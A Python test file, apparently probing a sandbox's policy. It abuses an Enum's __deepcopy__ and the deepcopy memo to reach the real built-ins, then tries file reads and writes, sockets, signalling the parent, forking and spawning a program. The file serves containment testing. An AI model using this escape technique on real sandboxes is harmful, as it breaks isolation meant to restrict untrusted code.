"""Leaves the policy by an enumeration made in a call, and then tries every wall behind it.

The enumeration has a special method that no class statement may have. `deepcopy` hands it the memo,
which swaps a method's name for another, and so the globals of a module of the library are reached:
all of Python.

Contained: the policy is left, and each step after that is refused as without a policy.
"""

import copy
import json
from enum import Enum


def swap(member, memo):
    memo[id("__call__")] = "__globals__"
    return member


def reach():
    """The real built-ins."""
    odd = Enum("Odd", {"A": 1, "__deepcopy__": swap})
    reached = copy.deepcopy([odd.A, json.dumps.__call__])[1]
    return reached["__builtins__"]


def attack(paths):
    real = reach()
    load = real["__import__"]
    os, socket, signal = load("os"), load("socket"), load("signal")
    steps = {
        "a file was read": lambda: [real["open"](path).read() for path in paths[:1]],
        "a folder was listed": lambda: os.listdir(paths[1]),
        "a file was written": lambda: real["open"]("/tmp/toolhop-left", "w"),
        "a socket was made": socket.socket,
        "the parent was signalled": lambda: os.kill(os.getppid(), signal.SIGCONT),
        "a process was started": lambda: os.fork() or real["getattr"](os, "_exit")(0),
        "a program was run": lambda: os.posix_spawn("/bin/true", ["true"], {}),
    }
    done = []
    for name, step in steps.items():
        try:
            step()
        except OSError:
            continue
        done.append(name)
    return f"breach: {done}" if done else "escaped: all of Python, and no further"
